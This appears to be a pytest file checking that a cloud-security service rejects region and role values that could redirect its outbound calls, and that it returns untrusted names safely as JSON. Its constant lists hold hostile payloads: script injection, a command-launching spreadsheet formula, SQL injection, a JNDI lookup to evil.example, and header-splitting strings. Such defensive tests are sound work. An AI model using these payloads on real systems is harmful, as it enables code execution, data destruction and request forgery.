"""What leads out and what comes in: no input chooses a host, and a cloud's names stay text."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest
from botocore.exceptions import BotoCoreError
from tests.auth.oauth.party import Site
from tests.auth.oauth.party import serving as serving_pages

from cloudsealed.collectors.aws.access import AwsAccess, AwsSession
from cloudsealed.vocabulary import Role

HOSTILE_REGIONS = (
    "x.evil.example/",
    "us-east-1@evil",
    "us-east-1.evil.example",
    "evil.example#",
    "127.0.0.1",
    "us-east-1/../..",
    "us-east-1:80",
    "us-east-1\n",
    " us-east-1",
    "US-EAST-1",
    "us-east-1\x7f",
    "169.254.169.254",
    "[::1]",
    "us-east-1%2eevil.example",
    "",
    "a" * 300,
    "https://evil.example",
)
HOSTILE_ROLES = (
    "https://evil.example/role",
    "arn:aws:iam::123456789012:role/a b",
    "arn:aws:iam::1:role/a",
    "arn:evil:iam::123456789012:role/a",
    "arn:aws:iam::123456789012:user/a",
    "arn:aws:iam::123456789012:role/a\n",
    "arn:aws:sts::123456789012:role/a",
    "169.254.169.254",
)
ROLE = "arn:aws:iam::123456789012:role/a"
HOSTILE_NAMES = (
    "<script>alert(1)</script>",
    "=cmd|' /C calc'!A0",
    "@SUM(1)",
    "+1",
    "-1",
    "#eval(sys)",
    '"; DROP TABLE findings; --',
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "\u202egnp.exe",
    "\x1b[31mred",
    pytest.param("a\x00b", marks=pytest.mark.inside),  # which PostgreSQL has no place for
    "line\r\nSet-Cookie: x=1",
    "\ud7ff\uffff",
    "😀" * 200,
    "\\u0000",
    "",
)


@pytest.fixture
def trap() -> Iterator[socket.socket]:
    """A port of the loopback where nobody should ever call."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        yield listening


def _was_called(trap: socket.socket) -> bool:
    try:
        trap.accept()[0].close()
    except BlockingIOError:
        return False
    return True


@pytest.mark.parametrize("region", HOSTILE_REGIONS)
def test_a_region_never_chooses_a_host(tenant: Any, region: str) -> None:
    body = {"provider": "aws", "name": "x", "role_arn": ROLE, "regions": [region]}
    refused = tenant.http.post("/v1/connections", json=body)
    assert refused.json()["error"]["code"] == "invalid_field", refused.text
    good = tenant.http.post("/v1/connections", json={**body, "regions": ["eu-west-1"]})
    changed = tenant.http.patch(good.headers["location"], json={"regions": [region]})
    assert changed.json()["error"]["code"] == "invalid_field"
    assert tenant.http.get(good.headers["location"]).json()["regions"] == ["eu-west-1"]


@pytest.mark.parametrize("region", [*HOSTILE_REGIONS, "evil-example-1", "us-east-1-evil"])
def test_a_region_that_got_through_would_still_lead_to_aws_alone(
    region: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("AWS_ENDPOINT_URL", raising=False)
    for service in ("ec2", "s3", "iam", "s3control"):
        try:
            client = AwsSession(AwsAccess()).client(service, region)
        except (BotoCoreError, ValueError):
            continue
        host = urlsplit(client.meta.endpoint_url).hostname or ""
        assert host.endswith((".amazonaws.com", ".amazonaws.com.cn")), host


@pytest.mark.parametrize("role", HOSTILE_ROLES)
def test_a_role_is_an_arn_and_no_address(tenant: Any, role: str) -> None:
    body = {"provider": "aws", "name": "x", "role_arn": role}
    answer = tenant.http.post("/v1/connections", json=body)
    assert answer.json()["error"]["code"] == "invalid_field", answer.text


def test_no_field_of_a_connection_names_an_endpoint(tenant: Any, trap: socket.socket) -> None:
    address = f"http://127.0.0.1:{trap.getsockname()[1]}"
    for name in ("endpoint_url", "endpoint", "url", "proxy", "profile", "access_key_id"):
        body = {"provider": "aws", "name": "x", "role_arn": ROLE, name: address}
        answer = tenant.http.post("/v1/connections", json=body)
        assert answer.json()["error"]["code"] == "unknown_field", name
    assert not _was_called(trap)


def test_a_redirect_uri_is_never_fetched(trap: socket.socket, tmp_path: Any) -> None:
    address = f"http://127.0.0.1:{trap.getsockname()[1]}/callback"
    with serving_pages(tmp_path) as site:
        _whole_flow(site, address)
    assert not _was_called(trap)


def _whole_flow(site: Site, address: str) -> None:
    app = site.app(redirect_uris=[address])
    code = site.browser(Role.ADMIN).code(app, redirect_uri=address)
    tokens = site.redeem(app, code, redirect_uri=address)
    assert tokens.status_code == 200, tokens.text
    site.post(
        "/oauth/revoke",
        token=tokens.json()["refresh_token"],
        client_id=app["client_id"],
        client_secret=app["client_secret"],
    )


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_what_a_cloud_calls_things_is_answered_as_it_is_and_as_json(tenant: Any, name: str) -> None:
    evidence = ({"path": name, "value": name},)
    ident = tenant.add_findings(1, title=name, evidence=evidence)[0]
    one, listed = tenant.http.get(f"/v1/findings/{ident}"), tenant.http.get("/v1/findings?limit=1")
    for answer, found in ((one, one.json()), (listed, listed.json()["data"][0])):
        assert (found["title"], found["evidence"]) == (name, list(evidence))
        assert answer.headers["content-type"] == "application/json"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "set-cookie" not in answer.headers
